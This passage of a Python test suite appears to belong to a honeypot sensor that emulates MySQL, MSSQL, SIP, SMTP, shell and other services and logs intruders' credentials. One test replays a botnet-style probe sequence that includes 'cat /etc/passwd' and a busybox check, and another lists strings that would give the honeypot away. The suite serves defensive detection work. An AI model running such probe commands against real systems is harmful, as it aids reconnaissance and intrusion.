    assert "information_schema" in heard, heard
    records = sensor.records(2)
    assert [record["credentials"][0]["user"] for record in records] == [outside, inside]
    assert records[0]["credentials"][0]["password"].startswith("$mysqlna$")
    assert b"show databases" in payload(records[1])


def test_a_tds_client_is_heard_with_its_password(start: Start) -> None:
    sensor = serve(start, "mssql")
    heard = run("tsql", "-H", "127.0.0.1", "-p", str(sensor.port), "-U", "sa", "-P", "Pässw0rd!", text="quit\n")
    assert "Login failed for user 'sa'" in heard, heard
    assert sensor.records(1)[0]["credentials"] == [{"user": "sa", "password": "Pässw0rd!"}]


def test_a_sip_client_is_asked_who_it_is(start: Start) -> None:
    sensor = serve(start, "sip")
    request = (
        "REGISTER sip:pbx SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK1;rport\r\nMax-Forwards: 70\r\n"
        "From: <sip:100@pbx>;tag=1\r\nTo: <sip:100@pbx>\r\nCall-ID: 1@x\r\nCSeq: 1 REGISTER\r\n"
        f"{'X-Padding: ' + 'x' * 200}\r\nContent-Length: 0\r\n\r\n"
    ).encode()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(20)
        sock.connect(("127.0.0.1", sensor.port))
        sock.send(request)
        answer = sock.recv(4096)
    assert answer.startswith(b"SIP/2.0 401 Unauthorized\r\nVia: SIP/2.0/UDP 192.0.2.1:5060")
    assert b"CSeq: 1 REGISTER" in answer
    assert len(answer) <= len(request)


@given(number=st.integers(0, 10_000))
@settings(max_examples=40, deadline=None)
def test_words_that_botnets_look_for_are_in_no_answer(number: int) -> None:
    """docs/decisions/005-give-aways.md"""
    shell = talk("shell", f"sensor-{number}")
    heard = shell.greet() + shell.hear(
        b"enable\nlinuxshell\nsystem\nbash\nls /home\nls -l /home\nps aux\ncat /etc/passwd\n/bin/busybox ZONESEC\n"
    )
    heard += talk("telnet", f"sensor-{number}").greet()
    for word in (b"Jun22", b"Jun23", b"phil", b"richard", b"sshd:", b"@LocalHost:]", b"EmbyLinux", b"oracle"):
        assert word not in heard


def test_each_protocol_answers_rubbish_in_its_own_way() -> None:
    rubbish = b"\x16\x03rubbish\r\n\r\n" * 3
    answers = {name: talk(name).hear(rubbish) for name in ("ftp", "http", "mysql", "pop3", "redis", "smtp", "ssh")}
    said_something = [answer for answer in answers.values() if answer]
    assert len(set(said_something)) == len(said_something) >= 6


def test_a_persona_of_another_package(start: Start, tmp_path: Path) -> None:
    """docs/personas.md's own example, found by its entry point."""
    text = (Path(__file__).parent.parent / "docs" / "personas.md").read_text(encoding="utf-8")
    code = re.search(r"```python\n(.*?)```", text, re.DOTALL)
    assert code
    site = tmp_path / "site"
    info = site / "mypackage-1.0.dist-info"
    info.mkdir(parents=True)
    (site / "mypackage").mkdir()
    (site / "mypackage" / "__init__.py").touch()
    (site / "mypackage" / "pbx.py").write_text(code[1], encoding="utf-8")
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: mypackage\nVersion: 1.0\n", encoding="utf-8")
    (info / "entry_points.txt").write_text("[tcppc.personas]\npbx = mypackage.pbx:Pbx\n", encoding="utf-8")
    sensor = serve(start, "pbx", patch=f"sys.path.append({str(site)!r})")
    assert "PBX ready" in ask(sensor, "bob secret", "quit")
    record = sensor.records(1)[0]
    assert (record["persona"], record["closed"]) == ("pbx", "peer")
    assert record["credentials"][0] == {"user": "bob", "password": "secret"}


def test_show_has_both_sides(start: Start) -> None:
    sensor = serve(start, "smtp")
    ask(sensor, "EHLO x", "AUTH PLAIN AHJvb3QAdG9vcg==", "QUIT")
    sensor.records(1)
    lines = tcppc("show", str(sensor.file)).stdout.splitlines()
    assert ", persona smtp" in lines[0]
    assert lines[1].startswith("  < 220 ")
    assert lines[2] == "    EHLO x\\r\\n"
    assert lines[3].startswith("  < 250-")
    assert lines[-1] == "    tried: user root, password toor"
